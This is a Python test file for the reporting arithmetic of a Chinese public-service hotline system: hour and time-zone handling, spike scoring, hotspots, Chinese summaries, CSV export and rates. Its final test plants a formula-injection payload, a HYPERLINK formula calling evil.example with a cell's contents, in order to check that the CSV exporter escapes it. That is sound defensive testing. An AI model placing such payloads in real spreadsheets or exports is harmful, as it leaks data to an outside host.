"""The reports' arithmetic without a database: hours, scores, hotspots, the summary, the CSV, the rates."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from pydantic import ValidationError

from app.reports_csv import COLUMNS, brief_csv
from ingest.reports.brief import far_above
from ingest.reports.hours import (
    NotWholeHour,
    days_before,
    elapsed_fraction,
    hour_of,
    local_hour,
    parse_hour,
    same_hour_days_before,
)
from ingest.reports.rates import rate, total, with_rates
from ingest.reports.rollups import Baseline, HourCounts
from ingest.reports.scoring import Thresholds, change, expected, is_spike, score
from ingest.reports.summary import summarise
from ingest.schemas.reports import Count, Hotspot, HourlyBrief, HourTotal, RisingIncident, UrgentTicket
from ingest.settings import Settings

SHANGHAI = ZoneInfo("Asia/Shanghai")


def test_a_local_hour_of_shanghai_is_the_utc_hour_eight_hours_earlier() -> None:
    hour = local_hour(parse_hour("2026-12-07T09"), SHANGHAI)
    assert hour.start == datetime(2026, 12, 7, 1, tzinfo=UTC)
    assert hour.end - hour.start == timedelta(hours=1)
    assert hour.label == "2026-12-07T09"


def test_an_hour_that_is_not_an_hour_is_refused_with_the_expected_form() -> None:
    for text in ("2026-12-07", "2026-12-07T9", "2026-12-07 09", "0000-01-01T00"):
        with pytest.raises(ValueError):
            parse_hour(text)
    with pytest.raises(ValueError, match="month"):
        parse_hour("2026-13-07T09")


def test_a_zone_half_an_hour_off_utc_is_refused() -> None:
    with pytest.raises(NotWholeHour):
        local_hour(parse_hour("2026-12-07T09"), ZoneInfo("Asia/Kolkata"))


def test_the_same_hour_on_earlier_days_keeps_the_wall_clock_across_a_dst_change() -> None:
    berlin = ZoneInfo("Europe/Berlin")
    hour = local_hour(parse_hour("2026-03-30T09"), berlin)  # the day after the clocks went forward
    before = days_before(hour, 2)
    assert before.local.hour == 9 and before.start == datetime(2026, 3, 28, 8, tzinfo=UTC)
    assert hour.start == datetime(2026, 3, 30, 7, tzinfo=UTC)
    assert [h.label for h in same_hour_days_before(hour, 3)] == [
        "2026-03-29T09",
        "2026-03-28T09",
        "2026-03-27T09",
    ]


def test_hour_of_and_elapsed_fraction() -> None:
    now = datetime(2026, 12, 7, 1, 15, tzinfo=UTC)
    hour = hour_of(now, SHANGHAI)
    assert hour.label == "2026-12-07T09"
    assert elapsed_fraction(hour, now) == 0.25
    assert elapsed_fraction(hour, now + timedelta(hours=2)) == 1.0
    assert elapsed_fraction(hour, now - timedelta(hours=2)) == 0.0


def test_score_is_a_poisson_z_with_one_added_to_the_variance() -> None:
    assert score(13, 3.0) == pytest.approx(5.0)
    assert score(0, 0.0) == 0.0
    assert expected(12.0, 0.25) == 3.0
    with pytest.raises(ValueError):
        expected(12.0, 1.5)


def test_a_spike_needs_the_count_the_ratio_and_the_score_all_at_once() -> None:
    rule = Thresholds(min_count=10, min_score=4.0, min_ratio=3.0)
    assert is_spike(13, 3.0, rule)  # 13 ≥ 10, 13 ≥ 9, score 5
    assert not is_spike(9, 0.0, rule)  # too few
    assert not is_spike(40, 20.0, rule)  # score 4.4 but only twice the usual
    assert not is_spike(12, 3.9, rule)  # three times the usual, but score 3.66


def test_change_against_last_week() -> None:
    assert change(125, 100) == 0.25
    assert change(80, 100) == -0.2
    assert change(5, 0) is None


def _counts(cells: dict[tuple[str | None, str | None], int]) -> HourCounts:
    return HourCounts(sum(cells.values()), 0, cells, {}, {})


def test_hotspots_are_cells_far_above_their_own_baseline_highest_score_first() -> None:
    counts = _counts({("朝阳区", "城乡建设"): 40, ("海淀区", "交通管理"): 12, ("丰台区", "环境保护"): 30})
    base = Baseline(
        {("朝阳区", "城乡建设"): 2.0, ("海淀区", "交通管理"): 1.0, ("丰台区", "环境保护"): 25.0}, 7
    )
    found = far_above(counts, base, 1.0, Thresholds(min_count=5, min_score=3.0))
    assert [(h.district, h.tickets) for h in found] == [("朝阳区", 40), ("海淀区", 12)]
    top = found[0]
    assert top.baseline == 2.0 and top.expected == 2.0 and top.score == round(38 / 3**0.5, 2)


def test_a_running_hour_expects_only_its_elapsed_part() -> None:
    counts = _counts({("朝阳区", "城乡建设"): 10})
    base = Baseline({("朝阳区", "城乡建设"): 20.0}, 7)
    rule = Thresholds(min_count=5, min_score=3.0)
    assert far_above(counts, base, 1.0, rule) == []  # half the usual hour
    (early,) = far_above(counts, base, 0.1, rule)  # but the usual for six minutes is 2
    assert early.expected == 2.0 and early.baseline == 20.0


def test_without_any_earlier_hour_nothing_is_a_hotspot() -> None:
    counts = _counts({("朝阳区", "城乡建设"): 500})
    assert far_above(counts, Baseline({}, 0), 1.0, Thresholds(min_count=1, min_score=0.1)) == []
    # with history, a cell never seen before has a baseline of 0
    (new,) = far_above(counts, Baseline({}, 3), 1.0, Thresholds(min_count=1, min_score=0.1))
    assert new.baseline == 0.0


def _brief(**overrides: object) -> HourlyBrief:
    values: dict[str, object] = {
        "hour": "2026-12-07T09",
        "timezone": "Asia/Shanghai",
        "start": datetime(2026, 12, 7, 1, tzinfo=UTC),
        "end": datetime(2026, 12, 7, 2, tzinfo=UTC),
        "complete": True,
        "generated_at": datetime(2026, 12, 7, 2, 5, tzinfo=UTC),
        "total": HourTotal(tickets=1250, urgent=2, week_before=1000, change=0.25),
        "by_category": [Count(name="城乡建设", tickets=900), Count(name=None, tickets=350)],
        "by_district": [Count(name="朝阳区", tickets=1250)],
        "new_incidents": 4,
        "rising_incidents": [
            RisingIncident(
                incident_id="inc-1",
                title="望京西园三区井盖丢失",
                category="城乡建设",
                district="朝阳区",
                place="望京西园三区",
                size=560,
                growth=320,
                new=False,
                first_seen=datetime(2026, 12, 7, 0, 40, tzinfo=UTC),
                sample_titles=["井盖丢了", "路口井盖没了"],
            )
        ],
        "hotspots": [
            Hotspot(
                district="朝阳区", category="城乡建设", tickets=400, baseline=12.5, expected=12.5, score=109.6
            )
        ],
        "urgent_tickets": [
            UrgentTicket(
                ticket_id="JS1",
                received_at=datetime(2026, 12, 7, 1, 5, tzinfo=UTC),
                urgency="critical",
                urgency_situation="gas_leak",
                title="燃气泄漏",
                category="城乡建设",
                district="丰台区",
                department="市燃气集团",
                status="dispatched",
            ),
            UrgentTicket(
                ticket_id="JS2",
                received_at=datetime(2026, 12, 7, 1, 6, tzinfo=UTC),
                urgency="high",
                urgency_situation=None,
                title="老人独居",
                category=None,
                district=None,
                department=None,
                status="closed",
            ),
        ],
        "alerts": [],
        "summary": "",
    }
    values.update(overrides)
    return HourlyBrief.model_validate(values)


def test_the_summary_says_the_figures_in_chinese() -> None:
    text = summarise(_brief())
    assert text.startswith("2026-12-07 09时共受理诉求1,250件，较上周同时段（1,000件）增加25.0%。")
    assert "紧急诉求2件，其中1件尚未办结。" in text
    assert (
        "新增事件4个；上升最快的是“望京西园三区井盖丢失”（望京西园三区，城乡建设），本小时新增320件，累计560件。"
        in text
    )
    assert "热点：朝阳区·城乡建设，400件，为常态（12.5件）的32.0倍。" in text


def test_the_summary_of_a_quiet_running_hour() -> None:
    quiet = _brief(
        complete=False,
        total=HourTotal(tickets=3, urgent=0, week_before=0, change=None),
        rising_incidents=[],
        hotspots=[],
        urgent_tickets=[],
        new_incidents=0,
    )
    assert (
        summarise(quiet)
        == "2026-12-07 09时（截至目前）共受理诉求3件，上周同时段无数据。无紧急诉求。新增事件0个。"
    )


def test_the_csv_has_a_row_per_figure_and_opens_in_a_spreadsheet() -> None:
    text = brief_csv(_brief(summary="摘要"))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert tuple(rows[0]) == COLUMNS
    sections = [r[0] for r in rows[1:]]
    assert sections.count("urgent") == 2 and sections.count("incident") == 1 and sections[-1] == "summary"
    total = rows[1]
    assert total[:5] == ["total", "2026-12-07T09", "全部", "1250", "1000"] and "+25.0%" in total[6]
    hotspot = next(r for r in rows if r[0] == "hotspot")
    assert hotspot[3:6] == ["400", "12.5", "109.6"]
    assert rows[-1][6] == "摘要"


def test_the_rates_divide_and_add_up() -> None:
    assert rate(2, 3) == 0.6667 and rate(0, 0) is None
    rows = [
        {"tickets": 10, "due": 8, "responded": 6, "followed_up": 4, "solved": 3, "rated": 4, "satisfied": 4},
        {"tickets": 5, "due": 2, "responded": 2, "followed_up": 0, "solved": 0, "rated": 0, "satisfied": 0},
    ]
    assert with_rates(rows[1])["resolution_rate"] is None
    both = total(rows)
    assert (both["tickets"], both["response_rate"], both["resolution_rate"], both["satisfaction_rate"]) == (
        15,
        0.8,
        0.75,
        1.0,
    )


def test_the_hotline_zone_must_be_a_whole_number_of_hours_from_utc() -> None:
    assert Settings(report_timezone="Europe/Berlin").report_timezone == "Europe/Berlin"
    with pytest.raises(ValidationError, match="whole number of hours"):
        Settings(report_timezone="Asia/Kolkata")
    with pytest.raises(ValidationError, match="not an IANA time zone"):
        Settings(report_timezone="Mars/Olympus")


def test_a_title_written_as_a_formula_stays_text_in_the_csv() -> None:
    brief = _brief()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    brief.urgent_tickets[0].title = hostile
    brief.rising_incidents[0].title = "@SUM(A1:A9)"
    brief.rising_incidents[0].sample_titles = ["+1", "-1 井盖"]
    rows = list(csv.reader(io.StringIO(brief_csv(brief).lstrip("\ufeff"))))
    urgent = next(r for r in rows if r[0] == "urgent")
    incident = next(r for r in rows if r[0] == "incident")
    assert urgent[2] == "'" + hostile
    assert incident[2] == "'@SUM(A1:A9)"
    # Within a joined cell a formula sign is harmless; only a cell's first character counts.
    assert incident[6].endswith("+1 | -1 井盖")
    # Numbers stay numbers, and ordinary text as written.
    total = rows[1]
    assert total[3:5] == ["1250", "1000"] and rows[-1][6] == ""
